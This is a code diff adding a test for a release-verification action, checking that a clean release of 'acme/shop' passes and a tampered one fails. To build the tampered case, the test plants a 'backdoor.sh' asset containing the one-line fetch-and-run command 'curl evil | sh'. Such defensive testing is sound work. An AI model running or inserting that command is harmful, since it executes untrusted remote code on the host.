@@ -455,6 +455,42 @@ describe("gatehouse verify re-checks the run's environment approvals and the fre
   });
 });
 
+describe("the verify-release action (its bundle, as a runner runs it)", () => {
+  it("passes a good release and fails a tampered one, naming the check in the summary", async () => {
+    const sb = await sandbox();
+    const made = await release(sb);
+    const good = await runAction("verify-release", {
+      sandbox: sb,
+      repository: "acme/shop",
+      workspace: made.workspace,
+      inputs: { tag: "v1.1.0", assets: "dist" },
+    });
+    expect(good.exitCode, good.stdout + good.stderr).toBe(0);
+    expect(good.outputs.verdict).toBe("verified");
+    const json = JSON.parse(good.outputs.result!);
+    expect(json).toMatchObject({ repository: "acme/shop", tag: "v1.1.0", ok: true });
+    expect(json.checks.map((c: { name: string }) => c.name)).toHaveLength(8);
+    expect(good.summary).toMatch(/^## ✅ Release v1\.1\.0 of acme\/shop/);
+    expect(good.summary).toMatch(/\| ✅ \| `approvals` \| 1 change request authorised/);
+
+    await putAsset(sb, made.release.id, "backdoor.sh", "curl evil | sh");
+    const tampered = await runAction("verify-release", {
+      sandbox: sb,
+      repository: "acme/shop",
+      inputs: { tag: "v1.1.0" },
+    });
+    expect(tampered.exitCode).toBe(1);
+    expect(tampered.outputs.verdict).toBe("failed");
+    expect(JSON.parse(tampered.outputs.result!).ok).toBe(false);
+    expect(tampered.summary).toMatch(/Not verified: 1 check failed \(assets\)/);
+    expect(tampered.summary).toMatch(/\| ❌ \| `assets` \| .*backdoor\.sh/);
+    expect(tampered.stdout).toMatch(
+      /::error::Not verified: 1 check failed \(assets\)\. assets: .*backdoor\.sh/,
+    );
+    expect(sb.violations).toEqual([]);
+  });
+});
+
 describe("gatehouse verify", () => {
   it("says there is no release of a tag", async () => {
     const sb = await sandbox();
